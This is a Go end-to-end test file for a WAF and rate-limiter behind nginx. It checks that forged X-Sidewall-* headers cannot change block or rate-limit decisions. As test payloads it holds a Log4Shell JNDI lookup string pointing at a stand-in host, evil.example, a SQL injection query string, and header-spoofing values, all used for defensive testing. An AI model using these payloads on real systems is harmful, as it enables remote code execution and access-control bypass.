//go:build e2e

package e2e

import (
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"testing"
)

// forgedHeaders are the request headers of the nginx contract (server/doc.go) as a client
// might send them itself, to pass for another client, method, path, host, WAF profile,
// named location or request. nginx sets every one of them for sidewall, so none may
// change a decision or a rate-limit key; each value would change the decision if sidewall
// believed it.
var forgedHeaders = []string{
	"X-Sidewall-Addr: 203.0.113.9",          // blocklisted
	"X-Sidewall-Method: PROPFIND",           // not among the CRS's allowed methods (911100)
	"X-Sidewall-URI: /login",                // rate-limited
	"X-Sidewall-Host: shop.example",         // for rate-limit rules by host
	"X-Sidewall-Client-Host: 203.0.113.9",   // a numeric Host, for the WAF (920350)
	"X-Sidewall-Protocol: HTTP/9.9",         // not an allowed HTTP version (920430)
	"X-Sidewall-Profile: api",               // the profile with the higher threshold
	"X-Sidewall-Continue: @nowhere",         // a named location that does not exist
	"X-Sidewall-Content-Length: 1000000000", // far over any body limit
	"X-Sidewall-Transfer-Encoding: chunked", // a GET with a chunked body (920171)
	"X-Sidewall-Request-ID: forged-request-id",
	"X-Sidewall-Forged: forged", // the header nginx passes the client's values in
}

// log4shell is a header value the CRS denies in any request header (944150).
const log4shell = "${jndi:ldap://evil.example/a}"

// TestForgedContractHeaders sends forgedHeaders from the client through nginx, on both
// paths: a clean client stays allowed and a blocklisted or attacking one denied, whatever
// it forges; and an attack in a header of one of those names is seen by the WAF like one
// in any other header, since the application behind nginx receives those headers too.
func TestForgedContractHeaders(t *testing.T) {
	for _, site := range sites() {
		t.Run(site.name, func(t *testing.T) {
			for _, h := range append([]string{"all at once"}, forgedHeaders...) {
				headers := []string{h}
				if h == "all at once" {
					headers = forgedHeaders
				}
				name, _, _ := strings.Cut(h, ":")
				// A clean client is allowed, and its request reaches the upstream as sent
				// (on the body path through its own named location, not @nowhere).
				r := getFrom(t, site.base, "/hello", "192.0.2.220", headers...)
				if r.status != http.StatusOK || r.body != "GET /hello\n" {
					t.Errorf("%s: clean client: status %d body %q, want 200 from the upstream", name, r.status, r.body)
				}
				// A blocklisted one is denied.
				if r := getFrom(t, site.base, "/hello", "203.0.113.220", headers...); r.status != http.StatusForbidden {
					t.Errorf("%s: blocklisted client: status %d, want 403", name, r.status)
				}
				// SQL injection scoring 8: denied at [waf]'s threshold 5, allowed by the
				// api profile's 10.
				if r := getFrom(t, site.base, "/?id=1%27%20OR%20%271%27%3D%271", "192.0.2.221", headers...); r.status != http.StatusForbidden {
					t.Errorf("%s: SQL injection: status %d, want 403", name, r.status)
				}
				if h == "all at once" {
					continue
				}
				// An attack in the forged header itself.
				if r := getFrom(t, site.base, "/hello", "192.0.2.222", name+": "+log4shell); r.status != http.StatusForbidden {
					t.Errorf("%s: %s: status %d, want 403 as in any other header", name, log4shell, r.status)
				}
			}
			// The control: the same attack in a header of another name.
			if r := getFrom(t, site.base, "/hello", "192.0.2.222", "X-Anything: "+log4shell); r.status != http.StatusForbidden {
				t.Errorf("X-Anything: %s: status %d, want 403", log4shell, r.status)
			}
		})
	}
	// sidewall logs nginx's request id, never the client's.
	if lines := env.sidewall.LogLines(`"request_id":"forged-request-id"`); len(lines) > 0 {
		t.Errorf("sidewall logged the client's request id:\n%s", strings.Join(lines, "\n"))
	}
}

// TestForgedHeadersKeepRateLimitKeys: forged contract headers neither move a request to
// another rate-limit key nor make a rule count it that does not match it. A rule keyed by
// every part a client could want to forge (address, host, method, path) denies the fourth
// request although each forges other values, and a rule for one host never counts
// requests for another that claim it.
func TestForgedHeadersKeepRateLimitKeys(t *testing.T) {
	authListen, err := freeAddr()
	if err != nil {
		t.Fatal(err)
	}
	st := startOwnStack(t, ownOptions{
		edit: func(cfg string) string {
			cfg, err := setTOMLKey(cfg, "waf", "enabled", "false") // not what this is about, and slow to start
			if err != nil {
				t.Fatal(err)
			}
			return cfg + `
[[ratelimit.rules]]
name = "keyed"
path_prefix = "/keyed/"
by = ["addr", "host", "method", "path"]
limit = 3
window = "1m"

[[ratelimit.rules]]
name = "shop"
host = "shop.example"
limit = 1
window = "1m"
`
		},
		servers: []string{fmt.Sprintf(authOnlySite, authListen, env.app.Addr)},
	})
	for i, site := range []struct{ name, base string }{{"body path", st.site}, {"auth_request", "http://" + authListen}} {
		t.Run(site.name, func(t *testing.T) {
			client := "198.51.100." + strconv.Itoa(101+i)
			for n := 1; n <= 4; n++ {
				r := getFrom(t, site.base, "/keyed/a", client,
					"X-Sidewall-Addr: 192.0.2."+strconv.Itoa(n),
					"X-Sidewall-Host: host"+strconv.Itoa(n)+".example",
					"X-Sidewall-Client-Host: host"+strconv.Itoa(n)+".example",
					"X-Sidewall-Method: "+[]string{"POST", "PUT", "DELETE", "PATCH"}[n-1],
					"X-Sidewall-URI: /keyed/"+strconv.Itoa(n))
				want := http.StatusOK
				if n == 4 {
					want = http.StatusTooManyRequests
				}
				if r.status != want {
					t.Errorf("keyed, request %d: status %d, want %d", n, r.status, want)
				}
			}
			for n := 1; n <= 3; n++ {
				r := getFrom(t, site.base, "/", client, "X-Sidewall-Host: shop.example", "X-Sidewall-Client-Host: shop.example")
				if r.status != http.StatusOK {
					t.Errorf("another host claiming shop.example, request %d: status %d, want 200", n, r.status)
				}
			}
			// The control: the rule does count shop.example's own requests.
			for n, want := range []int{http.StatusOK, http.StatusTooManyRequests} {
				if r := getFrom(t, site.base, "/", client, "Host: shop.example"); r.status != want {
					t.Errorf("shop.example, request %d: status %d, want %d", n+1, r.status, want)
				}
			}
		})
	}
}
